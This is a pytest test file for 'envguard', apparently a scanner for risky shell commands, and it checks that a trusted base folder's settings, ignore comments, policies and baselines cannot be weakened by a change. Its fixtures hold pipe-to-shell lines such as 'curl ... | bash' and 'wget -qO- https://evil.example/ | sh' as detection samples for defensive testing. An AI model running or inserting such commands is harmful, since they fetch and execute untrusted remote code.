"""`--trusted DIR`: what a change does to settings, ignores, policy and baseline has no effect."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from envguard.cli.front import main
from envguard.engine.check import check
from envguard.engine.ignores import ignores
from envguard.engine.request import Request
from envguard.engine.result import Result
from envguard.engine.trusted import MOST_COMMENTS, standing
from envguard.model import Source
from envguard.project import discovery
from envguard.project import settings as settings_files

BAD = "curl -s https://example.org/i.sh | bash\n"
IGNORE = "# envguard: ignore[CMD006] looked at\n"


class Change:
    """A base and the change to it, both folders; the change is where one stands."""

    def __init__(self, folder: Path) -> None:
        self.base, self.here = folder / "base", folder / "here"
        self.base.mkdir()

    def begin(self, **files: str) -> None:
        """The base's files; the change begins as a copy."""
        for name, content in files.items():
            self.write(name.replace("__", "/").replace("_", "."), content, self.base)
        if self.here.exists():
            shutil.rmtree(self.here)
        shutil.copytree(self.base, self.here)
        (self.here / ".git").mkdir()

    def write(self, name: str, content: str, folder: Path | None = None) -> None:
        path = (folder or self.here) / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)

    def check(self, monkeypatch: pytest.MonkeyPatch, **options: object) -> Result:
        settings_files.forget()
        discovery._roots.clear()
        monkeypatch.chdir(self.here)
        return check(Request(trusted=str(self.base), **options))  # type: ignore[arg-type]


@pytest.fixture
def change(tmp_path: Path) -> Change:
    return Change(tmp_path)


def counted(result: Result) -> list[str]:
    return [one.code for one in result.reported if one.ignored is None]


def test_without_a_change_the_base_is_what_is_there(
    change: Change, monkeypatch: pytest.MonkeyPatch
) -> None:
    change.begin(a_sh=IGNORE + BAD, envguard_toml='ignore = ["CMD005"]\n')
    result = change.check(monkeypatch)
    assert counted(result) == []
    assert result.notes == ()


@pytest.mark.parametrize(
    "settings",
    [
        'ignore = ["CMD"]', 'select = ["ENV"]', 'exclude = ["*.sh"]', "per-file-ignores = {a = []}",
        'per-file-ignores = {"*.sh" = ["ALL"]}', 'severity = {CMD006 = "info"}', 'ignore = ["ALL"',
        "unknown = 1", 'fail-on = "error"', 'plugins = ["nobody"]',
    ],
)  # fmt: skip
@pytest.mark.parametrize("name", ["envguard.toml", "sub/envguard.toml", "pyproject.toml"])
def test_looser_settings_do_not_count_and_are_said_first(
    change: Change, monkeypatch: pytest.MonkeyPatch, settings: str, name: str
) -> None:
    change.begin(sub__a_sh=BAD)
    head = "[tool.envguard]\n" if name == "pyproject.toml" else ""
    change.write(name, f"{head}{settings}\n")
    result = change.check(monkeypatch)
    assert counted(result) == ["CMD006"]
    assert [one.severity.word for one in result.reported] == ["error"]
    assert result.notes[0].endswith("hold")


def test_settings_that_are_gone_hold_all_the_same(
    change: Change, monkeypatch: pytest.MonkeyPatch
) -> None:
    change.begin(a_sh=BAD, envguard_toml='severity = {CMD006 = "info"}\nextends = "more.toml"\n',
                 more_toml='fail-on = "info"\n')  # fmt: skip
    (change.here / "envguard.toml").unlink()
    result = change.check(monkeypatch)
    assert [one.severity.word for one in result.reported] == ["info"]
    assert result.notes == (
        "this change alters the settings (`extends`, `fail-on`, `severity`); the base's hold",
    )


def test_settings_of_a_subfolder_keep_their_root(
    change: Change, monkeypatch: pytest.MonkeyPatch
) -> None:
    change.begin(sub__envguard_toml='exclude = ["x/*.sh"]\n', sub__x__a_sh=BAD, x__a_sh=BAD)
    result = change.check(monkeypatch)
    assert [one.finding.location.path for one in result.reported] == ["x/a.sh"]


def test_a_section_of_another_tool_is_no_change_of_settings(
    change: Change, monkeypatch: pytest.MonkeyPatch
) -> None:
    change.begin(a_sh="ls\n", pyproject_toml="[tool.envguard]\nignore = []\n")
    change.write("pyproject.toml", "[tool.other]\n[tool.envguard]\nignore = []\n")
    assert change.check(monkeypatch).notes == ()


@pytest.mark.parametrize(
    "content",
    [
        IGNORE + BAD + IGNORE + "wget -qO- https://evil.example/ | sh\n",
        IGNORE + "wget -qO- https://evil.example/ | sh\n" + BAD,
        BAD + IGNORE + "wget -qO- https://evil.example/ | sh\n",
        IGNORE + BAD + "wget -qO- https://evil.example/ | sh  " + IGNORE,
        "# envguard: ignore-file[CMD006] looked at\n" + BAD,
        IGNORE.replace("looked at", "until 2099-01-01") + BAD,
    ],
)
def test_an_ignore_comment_that_is_new_copied_or_carried_does_not_count(
    change: Change, monkeypatch: pytest.MonkeyPatch, content: str
) -> None:
    change.begin(a_sh=IGNORE + BAD)
    change.write("a.sh", content)
    result = change.check(monkeypatch)
    assert "CMD006" in counted(result)
    if content.count("ignore[CMD006]") > 1 or not content.startswith((IGNORE, BAD)):
        assert any(note.startswith("a.sh:") for note in result.notes)


@pytest.mark.parametrize(
    "content",
    [
        "ls\nls\n" + IGNORE + BAD,
        IGNORE + BAD + "ls\n",
        IGNORE + BAD.replace("i.sh", "j.sh"),
    ],
)
def test_an_ignore_comment_that_stays_counts(
    change: Change, monkeypatch: pytest.MonkeyPatch, content: str
) -> None:
    change.begin(a_sh=IGNORE + BAD)
    change.write("a.sh", content)
    result = change.check(monkeypatch)
    assert (counted(result), result.notes) == ([], ())


def test_a_renamed_file_takes_no_ignore_along(
    change: Change, monkeypatch: pytest.MonkeyPatch
) -> None:
    change.begin(a_sh=IGNORE + BAD)
    (change.here / "a.sh").rename(change.here / "b.sh")
    result = change.check(monkeypatch)
    assert counted(result) == ["CMD006"]
    assert result.notes == ("b.sh:1: this ignore comment is not in the base; it does not count",)


def test_many_comments_are_counted_and_not_all_named(
    change: Change, monkeypatch: pytest.MonkeyPatch
) -> None:
    change.begin(a_sh="ls\n")
    change.write("a.sh", (IGNORE + BAD) * (MOST_COMMENTS + 5))
    notes = change.check(monkeypatch).notes
    assert len(notes) == MOST_COMMENTS + 1
    assert notes[-1] == "and 5 more ignore comments that are not in the base"


def test_only_what_the_base_accepted_is_hidden_by_the_baseline(
    change: Change, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    change.begin(a_sh=BAD)
    monkeypatch.chdir(change.base)
    assert main(["check", "--write-baseline", "--exit-zero"]) == 0
    change.begin()
    accepted = (change.here / "envguard-baseline.json").read_text()
    result = change.check(monkeypatch, baseline="envguard-baseline.json")
    assert (counted(result), result.notes) == ([], ())
    # the change adds a script and accepts it itself
    change.write("b.sh", BAD.replace("curl -s", "curl"))
    assert main(["check", "--write-baseline", "--exit-zero"]) == 0
    assert (change.here / "envguard-baseline.json").read_text() != accepted
    result = change.check(monkeypatch, baseline="envguard-baseline.json")
    assert [one.finding.location.path for one in result.reported if one.ignored is None] == ["b.sh"]
    assert result.notes[0] == (
        "envguard-baseline.json: 1 of its entries are not in the base; they hide nothing"
    )


def test_a_mended_entry_must_leave_the_changes_own_baseline(
    change: Change, monkeypatch: pytest.MonkeyPatch
) -> None:
    change.begin(a_sh=BAD)
    monkeypatch.chdir(change.base)
    assert main(["check", "--write-baseline", "--exit-zero"]) == 0
    change.begin()
    change.write("a.sh", "ls\n")
    assert counted(change.check(monkeypatch, baseline="envguard-baseline.json")) == ["EGD007"]
    change.write("envguard-baseline.json", '{"version": 1, "findings": []}\n')
    assert counted(change.check(monkeypatch, baseline="envguard-baseline.json")) == []


def test_a_policy_in_the_change_is_the_bases(
    change: Change, monkeypatch: pytest.MonkeyPatch
) -> None:
    change.begin(a_sh=BAD, policy_toml='locked = ["ignore"]\n')
    change.write("policy.toml", 'ignore = ["ALL"]\n')
    result = change.check(monkeypatch, settings="policy.toml")
    assert counted(result) == ["CMD006"]
    assert result.notes == ("policy.toml: this change alters the policy; the base's holds",)
    change.write("new.toml", 'ignore = ["ALL"]\n')
    assert counted(change.check(monkeypatch, settings="new.toml")) == ["CMD006"]


def test_an_empty_base_exempts_nothing(change: Change, monkeypatch: pytest.MonkeyPatch) -> None:
    change.begin()
    change.write("a.sh", IGNORE + BAD)
    change.write("envguard.toml", 'ignore = ["CMD"]\n')
    assert counted(change.check(monkeypatch)) == ["CMD006"]


def test_accepting_and_trusting_only_the_base_do_not_go_together(
    change: Change, monkeypatch: pytest.MonkeyPatch
) -> None:
    change.begin(a_sh=BAD)
    monkeypatch.chdir(change.here)
    assert main(["check", "--trusted", str(change.base), "--write-baseline"]) == 2
    assert main(["check", "--trusted", str(change.base / "none")]) == 2


_LINES = st.lists(
    st.sampled_from([IGNORE, BAD, "ls\n", "\n", "# envguard: ignore[CMD006]\n", "cd x # envguard:"
                     " ignore[CMD001]\n", "# envguard: ignore-file[CMD002]\n"]),
    max_size=12,
).map("".join)  # fmt: skip


def comments(content: str) -> list[str]:
    return [one.text.value for one in ignores(Source("a.sh", content))]


@given(_LINES, _LINES)
def test_no_comment_counts_more_often_than_the_base_has_it(old: str, new: str) -> None:
    before, now = ignores(Source("a.sh", old)), ignores(Source("a.sh", new))
    kept = [comments(new)[index] for index in standing(before, old, now, new)]
    for words in kept:
        assert kept.count(words) <= comments(old).count(words)


@given(_LINES)
def test_in_an_unchanged_text_every_comment_counts(text: str) -> None:
    found = ignores(Source("a.sh", text))
    assert standing(found, text, found, text) == set(range(len(found)))


@pytest.mark.parametrize("started", ["base", "elsewhere", "."])
def test_the_bases_settings_hold_wherever_envguard_was_started(
    change: Change, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, started: str
) -> None:
    change.begin(install_sh=BAD)
    change.write("envguard.toml", 'ignore = ["CMD006"]\n')
    change.write("other.sh", IGNORE + BAD)
    for folder in ("base", "elsewhere"):
        (tmp_path / folder / ".git").mkdir(parents=True)
    settings_files.forget()
    discovery._roots.clear()
    monkeypatch.chdir(tmp_path / started)
    result = check(Request(paths=(str(change.here),), trusted=str(change.base)))
    assert counted(result) == ["CMD006", "CMD006"]
    assert "this change alters the settings (`ignore`); the base's hold" in result.notes


def test_nothing_is_exempt_in_what_the_base_says_nothing_of(
    change: Change, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    change.begin(install_sh=BAD)
    beside = tmp_path / "beside"
    change.write("envguard.toml", 'ignore = ["CMD006"]\n', beside)
    change.write("install.sh", IGNORE + BAD, beside)
    result = change.check(monkeypatch, paths=(".", str(beside)))
    assert counted(result) == ["CMD006", "CMD006"]
    assert any("the default settings hold" in note for note in result.notes)
